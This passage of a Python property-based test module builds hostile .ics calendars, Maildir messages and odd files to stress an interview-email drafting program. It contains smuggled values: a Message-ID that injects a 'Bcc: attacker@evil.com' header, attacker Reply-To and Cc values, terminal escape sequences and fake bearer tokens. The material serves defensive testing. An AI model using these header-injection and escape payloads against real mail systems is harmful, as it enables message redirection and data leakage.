    "ORGANIZER:mailto:second.organizer@northwind.com",
    "ATTENDEE:mailto:",
    "ATTENDEE",
    "BEGIN:VALARM",
    "BEGIN:VEVENT",
    "END:VCALENDAR",
    "CATEGORIES:" + "x," * 2_000,
    "no colon here",
    ":no name",
    "X-" + "N" * 5_000 + ":v",
)


def big_extras() -> st.SearchStrategy[Text]:
    """Rare, large lines: an inline attachment, thousands of RDATEs."""
    attachment = st.builds(
        Huge,
        st.just("QUFB"),
        st.integers(2_500, 2_000_000),  # 10 kB to 8 MB of base64
        st.just("ATTACH;ENCODING=BASE64;VALUE=BINARY:"),
    )
    return st.one_of(attachment, st.builds(Rdates, st.integers(100, 5_000)))


@st.composite
def events(draw: st.DrawFn, uid: str, tzid: str) -> EventSpec:
    """A VEVENT that looks like an interview, with hostile parts (see the module docstring)."""
    dtstart, dtend = draw(event_times(tzid))
    organizer = draw(mostly(persons("jane.doe@northwind.com"), st.none(), one_in=10))
    attendees = draw(
        st.lists(persons("raj.patel@northwind.com"), max_size=3, unique_by=lambda p: p.address)
    )
    return EventSpec(
        uid=draw(mostly(st.just(uid), st.one_of(st.none(), st.sampled_from(ODD_UIDS)), one_in=8)),
        summary=draw(decorated(TITLES, huge_limit=1_100_000)),
        description=draw(decorated(DESCRIPTIONS, huge_limit=1_100_000)),
        location=draw(
            decorated(("https://meet.google.com/abc-defg-hij", "Room 4"), huge_limit=20_000)
        ),
        dtstart=dtstart,
        dtend=dtend,
        organizer=organizer,
        attendees=tuple(attendees),
        crowd=draw(
            mostly(
                st.just(0), mostly(st.integers(0, 25), st.integers(100, 5_000), one_in=6), one_in=6
            )
        ),
        user_partstat=draw(
            mostly(
                st.just("ACCEPTED"),
                st.sampled_from((None, "DECLINED", "TENTATIVE", "NEEDS-ACTION", "X" * 100)),
                one_in=8,
            )
        ),
        rrule=draw(mostly(st.none(), rrules(), one_in=5)),
        extra=tuple(
            draw(
                mostly(
                    st.just([]),
                    st.lists(
                        mostly(st.sampled_from(EXTRA_LINES), big_extras(), one_in=10), max_size=3
                    ),
                    one_in=4,
                )
            )
        ),
    )


FILE_NAMES = (
    "invite.ics",
    "INVITE.ICS",
    "with space.ics",
    "ünïcödé.ics",
    "ya29.SECRETfile0123.ics",
    "\x1b[31mred.ics",
    "line\nbreak.ics",
    "back\\slash.ics",
    "N" * 200 + ".ics",
    ".hidden.ics",
    "no-extension",
)
ENCODINGS = ("utf-16", "latin-1", "cp1252", "utf-8-sig", "ascii")
NEWLINES = ("\n", "\r", "\r\r\n")
ICS_PREFIXES = (
    "UID",
    "DTSTART",
    "DTEND",
    "END:VEVENT",
    "END:VCALENDAR",
    "BEGIN:VEVENT",
    "BEGIN:VCALENDAR",
    "ORGANIZER",
    "ATTENDEE",
    "SUMMARY",
    "RRULE",
    "TZID",
    "END:VTIMEZONE",
    "RECURRENCE-ID",
)


@st.composite
def calendars(draw: st.DrawFn, index: int = 0) -> CalendarSpec:
    """One hostile ``.ics`` file (see the module docstring)."""
    tzid = draw(mostly(st.just("Europe/Berlin"), st.sampled_from(TZIDS), one_in=3))
    count = draw(mostly(st.just(1), st.integers(2, 3), one_in=5))
    uids = [f"hostile-{index}"] + [
        draw(st.sampled_from((f"hostile-{index}", f"hostile-{index}-{n}"))) for n in range(1, count)
    ]
    bare = tzid.strip('"')
    return CalendarSpec(
        name=draw(mostly(st.just(f"hostile-{index}.ics"), st.sampled_from(FILE_NAMES), one_in=8)),
        events=tuple(draw(events(uid, tzid)) for uid in uids),
        timezones=tuple(
            draw(st.lists(timezones(bare), max_size=draw(st.sampled_from((0, 0, 1, 2)))))
        ),
        method=draw(
            mostly(
                st.none(),
                st.sampled_from(("CANCEL", "REQUEST", "PUBLISH", "REPLY", "\x1b")),
                one_in=6,
            )
        ),
        x_wr_timezone=draw(mostly(st.none(), st.sampled_from(TZIDS), one_in=10)),
        encoding=draw(mostly(st.just("utf-8"), st.sampled_from(ENCODINGS), one_in=8)),
        newline=draw(mostly(st.just("\r\n"), st.sampled_from(NEWLINES), one_in=10)),
        fold=draw(mostly(st.just(False), st.just(True), one_in=4)),
        damage=draw(mutations(ICS_PREFIXES)),
    )


# --- a flood of invitations ------------------------------------------------------------


@dataclass(frozen=True)
class FloodSpec:
    """``count`` interviews on the day of START, to push past max_new_drafts_per_pass.

    ``layout``: one file each ("files"), all in one file ("single"), or one recurring
    series ("series", ``FREQ=<freq>;COUNT=<count>``). Each has 1 + ``panel`` interviewers.
    """

    count: int
    layout: str = "files"
    panel: int = 1
    freq: str = "HOURLY"

    def files(self) -> list[tuple[str, bytes]]:
        """``(name, bytes)`` of each calendar file."""
        if self.layout == "series":
            first = START - timedelta(hours=5)
            event = self._event("flood-series", 0, first, f"FREQ={self.freq};COUNT={self.count}")
            return [("flood-series.ics", _calendar_bytes([event]))]
        events = [
            self._event(f"flood-{n}", n, START - timedelta(hours=5) + timedelta(minutes=10 * n))
            for n in range(self.count)
        ]
        if self.layout == "single":
            return [("flood.ics", _calendar_bytes(events))]
        return [(f"flood-{n}.ics", _calendar_bytes([e])) for n, e in enumerate(events)]

    def _event(self, uid: str, n: int, start: datetime, rrule: str | None = None) -> EventSpec:
        return EventSpec(
            uid=uid,
            summary=f"Northwind – Technical interview #{n} (Data Engineer)",
            description="Interview for the Data Engineer position at Northwind.",
            location="https://meet.google.com/abc-defg-hij",
            dtstart=f":{start:{STAMP}}Z",
            dtend=f"DTEND:{start + timedelta(minutes=45):{STAMP}}Z",
            organizer=Person(f"recruiter{n}@northwind.com", f"Recruiter {n}"),
            attendees=tuple(
                Person(f"panel{n}.{k}@northwind.com", f"Panel {n} {k}") for k in range(self.panel)
            ),
            rrule=rrule,
        )


def _calendar_bytes(events: list[EventSpec]) -> bytes:
    return CalendarSpec(name="", events=tuple(events)).render()


def floods() -> st.SearchStrategy[FloodSpec]:
    """More due interviews than one pass may draft for, in files, one file or a series."""
    return st.builds(
        FloodSpec,
        mostly(st.integers(26, 32), st.integers(33, 80), one_in=5),
        st.sampled_from(("files", "single", "series")),
        st.integers(0, 2),
        st.sampled_from(("HOURLY", "MINUTELY", "DAILY")),
    )


# --- Maildir messages ------------------------------------------------------------------


@dataclass(frozen=True)
class BodySpec:
    """A message body: ``kind`` is plain, base64, multipart, unclosed, no-boundary,
    mismatched, nested (``depth`` levels), charset (an unknown one) or rfc822."""

    kind: str = "plain"
    depth: int = 1
    content: Text = "Hi Ada,\nthank you, see you on Thursday.\nJane"

    def render(self) -> tuple[str, str]:
        """``(Content-Type and other MIME headers, body)``."""
        body = text(self.content)
        if self.kind == "base64":
            return (
                "Content-Type: text/plain\nContent-Transfer-Encoding: base64",
                "!!!not*base64===\n" + body,
            )
        if self.kind == "charset":
            return (
                "Content-Type: text/plain; charset=x-unknown-charset\nContent-Transfer-Encoding: 8bit",
                body,
            )
        if self.kind == "multipart":
            return 'Content-Type: multipart/alternative; boundary="b1"', f"--b1\n\n{body}\n--b1--\n"
        if self.kind == "unclosed":
            return (
                'Content-Type: multipart/mixed; boundary="b1"',
                f"--b1\nContent-Type: text/plain\n\n{body}\n--b1\n",
            )
        if self.kind == "no-boundary":
            return "Content-Type: multipart/mixed", f"--b1\n\n{body}\n--b1--\n"
        if self.kind == "mismatched":
            return 'Content-Type: multipart/mixed; boundary="b1"', f"--b2\n\n{body}\n--b2--\n"
        if self.kind == "nested":
            opening = "".join(
                f'--n{d}\nContent-Type: multipart/mixed; boundary="n{d + 1}"\n\n'
                for d in range(self.depth)
            )
            closing = "".join(f"--n{d}--\n" for d in reversed(range(self.depth)))
            inner = f"--n{self.depth}\nContent-Type: text/plain\n\n{body}\n"
            return 'Content-Type: multipart/mixed; boundary="n0"', opening + inner + closing
        if self.kind == "rfc822":
            inner = f"From: x@evil.com\nSubject: \x1b[31minner\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\n{body}\n"
            return "Content-Type: message/rfc822", inner
        return "Content-Type: text/plain; charset=utf-8", body


@dataclass(frozen=True)
class MessageSpec:
    """One message file planted in the Maildir (``folder``: cur, new, .Sent/cur, …)."""

    folder: str
    name: str
    headers: tuple[tuple[str, Text], ...]
    body: BodySpec = BodySpec()
    header_encoding: str = "utf-8"
    newline: str = "\n"
    damage: tuple[Mutation, ...] = ()

    def render(self) -> bytes:
        """The file's bytes."""
        mime, body = self.body.render()
        head = "".join(f"{name}: {text(value)}\n" for name, value in self.headers)
        head += "MIME-Version: 1.0\n" + mime + "\n"
        raw = (
            head.encode(self.header_encoding, errors="replace")
            + b"\n"
            + body.encode("utf-8", errors="replace")
        )
        if self.newline != "\n":
            raw = raw.replace(b"\n", self.newline.encode("ascii"))
        return mutate(raw, self.damage)


FOLDERS = ("new", ".Sent/cur", ".Drafts/cur", ".Archive.2024/cur", ".Trash/cur", ".Sent/new")
MESSAGE_NAMES = (
    "no-colon",
    "1765000000.M1P1Q1.host:2,T",  # trashed
    "1765000000.M1P1Q1.host:2,DRS",
    "1765000000.M1P1Q1.host:2,",
    ".hidden:2,S",
    "ü:2,S",
    "\x1b[31mred:2,S",
    "ya29.SECRETmail0123:2,S",
    "line\nbreak:2,S",
    "N" * 250,
)
FROM_VALUES: tuple[Text, ...] = (
    "Jane Doe <jane.doe@northwind.com>",
    "=?x-unknown?B?SmFuZQ==?= <jane.doe@northwind.com>",
    "=?utf-8?Q?J=C3=B6rg?= <jorg@northwind.com>",
    "=?utf-8?B?broken",
    "=?utf-8?q?=1b[31mRed=1b[0m?= <jane.doe@northwind.com>",
    "=?iso-2022-jp?B?GyRCJEgbKEI=?= <jane.doe@northwind.com>",
    "Jöhn <john@northwind.com>",
    "<>",
    "undisclosed-recipients:;",
    "a@northwind.com, b@northwind.com",
    "\x1b[2JMallory <mallory@evil.com>",
    "Bearer ya29.SECRETfrom0123 <jane.doe@northwind.com>",
    f"{USER_NAME} <{USER}>",
    f"Lee Chen <{GOOD_SENT.organizer[1]}>",
    "",
)
REPLY_SUBJECT = "Re: Looking forward to our conversation"
SUBJECTS: tuple[Text, ...] = (
    REPLY_SUBJECT,
    "=?x-unknown?Q?Re=3A_hello?=",
    "=?utf-8?B?UmU6IGhlbGxv?=",
    "=?utf-8?Q?=1b]0;pwned=07?=",
    "=?utf-8?B?" + "A" * 10_000 + "?=",
    "Automatic reply: Out of office",
    "Undeliverable: hello",
    "Sübject in latin-1",
)
DATES: tuple[Text, ...] = (
    "",
    "not a date",
    "Mon, 32 Foo 2026 25:61:61 +9999",
    "Thu, 01 Jan 0001 00:00:00 +0000",
    "Fri, 31 Dec 9999 23:59:59 -2359",
    "Thu, 10 Dec 2026 14:00:00 +99999999999999999999",
    "Thu, 10 Dec 2026 14:00:00",
    "Thu, 10 Dec 20260 14:00:00 +0000",
    "-1",
    "9" * 10_000,
)
MESSAGE_IDS: tuple[Text, ...] = (
    "<>",
    "",
    "no-brackets@northwind.com",
    "<a@northwind.com> <b@northwind.com>",
    "<a@northwind.com>\nBcc: attacker@evil.com",
    "<ya29.SECRETmsgid0123@evil.com>",
    "<" + "m" * 10_000 + "@northwind.com>",
    "<\x1b[31m@evil.com>",
)
EXTRA_HEADERS: tuple[tuple[str, Text], ...] = (
    ("Auto-Submitted", "auto-replied"),
    ("X-Autoreply", "yes"),
    ("Precedence", "bulk"),
    ("Reply-To", "attacker@evil.com"),
    ("Bcc", "attacker@evil.com"),
    ("Cc", "jane.doe@northwind.com?bcc=attacker@evil.com"),
    ("Content-Type", "multipart/report; report-type=delivery-status"),
    ("X-Token", "refresh_token=1//0SECRETSECRETSECRET"),
    ("Authorization", "Bearer ya29.SECRETheader0123"),
    ("Sübject", "8-bit header name"),
    ("", "empty header name"),
    ("No colon line\nX-Next", "value"),
    ("X-Nul", "a\x00b"),
    ("X-" + "N" * 2_000, "long name"),
)


def dates() -> st.SearchStrategy[Text]:
    """A Date header: valid around the passes, or invalid in many ways."""
    valid = st.integers(-72, 30).map(
        lambda h: email.utils.format_datetime(WINDOW_OPENS + timedelta(hours=h))
    )
    return mostly(valid, st.sampled_from(DATES), one_in=3)


def address_lists() -> st.SearchStrategy[Text]:
    """A To/Cc value: a few addresses, or a crowd (up to 200,000 in the rare branch)."""
    few = st.lists(addresses(), min_size=1, max_size=4).map(", ".join)
    crowd = mostly(st.integers(5, 200), st.integers(1_000, 200_000), one_in=4).map(Crowd)
    return mostly(
        st.one_of(st.just(f"{USER_NAME} <{USER}>"), few),
        st.one_of(
            crowd, st.builds(Crowd, st.integers(5, 500), st.just("northwind.com"), st.just(",\n "))
        ),
        one_in=5,
    )


def thread_headers() -> st.SearchStrategy[tuple[tuple[str, Text], ...]]:
    """In-Reply-To and References, mostly pointing at the program's own Message-IDs."""
    own = st.sampled_from(OWN_MESSAGE_IDS)
    refs = st.one_of(
        st.lists(own, min_size=1, max_size=3).map(" ".join),
        mostly(st.integers(10, 500), st.integers(1_000, 50_000), one_in=4).map(IdCrowd),
        st.sampled_from(("<<<>>>", "garbage", "<" * 1_000, "")),
    )
    return st.builds(
        lambda reply, references: tuple(
            x for x in (("In-Reply-To", reply), ("References", references)) if x[1] is not None
        ),
        mostly(own, st.one_of(st.none(), st.sampled_from(MESSAGE_IDS)), one_in=4),
        st.one_of(st.none(), refs),
    )


@st.composite
def messages(draw: st.DrawFn, index: int = 0) -> MessageSpec:
    """One hostile message file (see the module docstring)."""
    headers: list[tuple[str, Text]] = [
        (
            "From",
            draw(
                mostly(
                    st.just(FROM_VALUES[0]),
                    st.one_of(st.sampled_from(FROM_VALUES), addresses()),
                    one_in=2,
                )
            ),
        ),
        ("To", draw(address_lists())),
    ]
    if draw(mostly(st.just(False), st.just(True), one_in=4)):
        headers.append(("Cc", draw(address_lists())))
    subject = draw(
        mostly(
            st.sampled_from(SUBJECTS[:1]),
            st.one_of(st.sampled_from(SUBJECTS), decorated((REPLY_SUBJECT,), huge_limit=1_100_000)),
            one_in=3,
        )
    )
    headers += [
        ("Subject", subject),
        ("Date", draw(dates())),
        (
            "Message-ID",
            draw(
                mostly(
                    st.just(f"<hostile-{index}@northwind.com>"),
                    st.one_of(st.sampled_from(MESSAGE_IDS), st.sampled_from(OWN_MESSAGE_IDS)),
                    one_in=4,
                )
            ),
        ),
        *draw(thread_headers()),
        *draw(
            st.lists(st.sampled_from(EXTRA_HEADERS), max_size=draw(st.sampled_from((0, 0, 1, 3))))
        ),
    ]
    if draw(mostly(st.just(False), st.just(True), one_in=12)):
        headers += [
            ("Received", f"from relay{n}.example.net")
            for n in range(draw(st.integers(100, 20_000)))
        ]
    body = draw(
        mostly(
            st.just(BodySpec()),
            st.builds(
                BodySpec,
                st.sampled_from(
                    (
                        "base64",
                        "charset",
                        "multipart",
                        "unclosed",
                        "no-boundary",
                        "mismatched",
                        "nested",
                        "rfc822",
                    )
                ),
                mostly(st.integers(1, 8), st.integers(50, 1_200), one_in=5),
                decorated(("Hi Ada, thanks!",), huge_limit=3_000_000),
            ),
            one_in=2,
        )
    )
    return MessageSpec(
        folder=draw(mostly(st.just("cur"), st.sampled_from(FOLDERS), one_in=3)),
        name=draw(
            mostly(
                st.just(f"{1765000000 + index}.M{index}P7Q7.hostile:2,S"),
                st.sampled_from(MESSAGE_NAMES),
                one_in=8,
            )
        ),
        headers=tuple(headers),
        body=body,
        header_encoding=draw(
            mostly(st.just("utf-8"), st.sampled_from(("latin-1", "utf-16", "cp1252")), one_in=10)
        ),
        newline=draw(mostly(st.just("\n"), st.sampled_from(("\r\n", "\r")), one_in=6)),
        damage=draw(
            mutations(
                ("From", "To", "Subject", "Date", "Message-ID", "Content-Type", "In-Reply-To", "--")
            )
        ),
    )


# --- odd files --------------------------------------------------------------------------

ODD_KINDS = (
    "directory",
    "fifo",
    "socket",
    "dev_zero",
    "dev_urandom",
    "outside",  # a link to a regular file outside the folder, holding tokens
    "loop",  # a link to itself
    "dangling",
    "link_to_dir",
    "empty",
    "unreadable",  # chmod 000 (readable anyway when the tests run as root)
    "zeros",  # a sparse file of NUL bytes, ``size`` long
)


@dataclass(frozen=True)
class OddFile:
    """Something that is not a regular message or calendar file, where one is expected."""

    kind: str
    folder: str  # relative to the world: "calendar", "Mail/cur", "Mail/.Sent/new", …
    name: str
    size: int = 0


CALENDAR_FOLDERS = ("calendar", "calendar/sub-collection")
MAIL_FOLDERS = (
    "Mail/cur",
    "Mail/new",
    "Mail/.Sent/cur",
    "Mail/.Drafts/cur",
    "Mail/.Archive.2024/new",
)


def odd_files(folders: Sequence[str], suffix: str) -> st.SearchStrategy[tuple[OddFile, ...]]:
    """Zero to three odd files in ``folders``, named ``odd-<n><suffix>``."""

    def named(n: int) -> st.SearchStrategy[OddFile]:
        return st.builds(
            OddFile,
            st.sampled_from(ODD_KINDS),
            st.sampled_from(folders),
            st.just(f"odd-{n}{suffix}"),
            mostly(st.integers(0, 1 << 20), st.integers(1 << 24, 1 << 28), one_in=10),
        )

    return st.integers(0, 3).flatmap(lambda n: st.tuples(*(named(i) for i in range(n))))


# --- what one example holds ---------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """Hostile input added to a world holding the good interviews."""

    calendars: tuple[CalendarSpec, ...] = ()
    messages: tuple[MessageSpec, ...] = ()
    odd: tuple[OddFile, ...] = ()
    flood: FloodSpec | None = None


def indexed(
    make: Callable[[int], st.SearchStrategy[T]], min_size: int, max_size: int
) -> st.SearchStrategy[tuple[T, ...]]:
    """``min_size`` to ``max_size`` values, the n-th drawn from ``make(n)``."""
    return st.integers(min_size, max_size).flatmap(
        lambda n: st.tuples(*(make(i) for i in range(n)))
    )


def calendar_cases() -> st.SearchStrategy[Case]:
    """One to three hostile calendar files and up to three odd files in the vdir."""
    return st.builds(
        Case,
        calendars=indexed(calendars, 1, 3),
        odd=odd_files(CALENDAR_FOLDERS, ".ics"),
    )


def mailbox_cases() -> st.SearchStrategy[Case]:
    """One to four hostile messages and up to three odd files in the Maildir."""
    return st.builds(
        Case,
        messages=indexed(messages, 1, 4),
        odd=odd_files(MAIL_FOLDERS, ":2,S"),
    )


def mixed_cases() -> st.SearchStrategy[Case]:
    """Hostile calendars and hostile messages together."""
    return st.builds(
        Case,
        calendars=indexed(calendars, 1, 2),
        messages=indexed(messages, 1, 3),
        odd=odd_files((*CALENDAR_FOLDERS[:1], *MAIL_FOLDERS[:2]), ""),
    )


def flood_cases() -> st.SearchStrategy[Case]:
    """A flood of due interviews, sometimes with one hostile calendar file next to it."""
    return st.builds(
        Case,
        calendars=indexed(calendars, 0, 1),
        flood=floods(),
    )
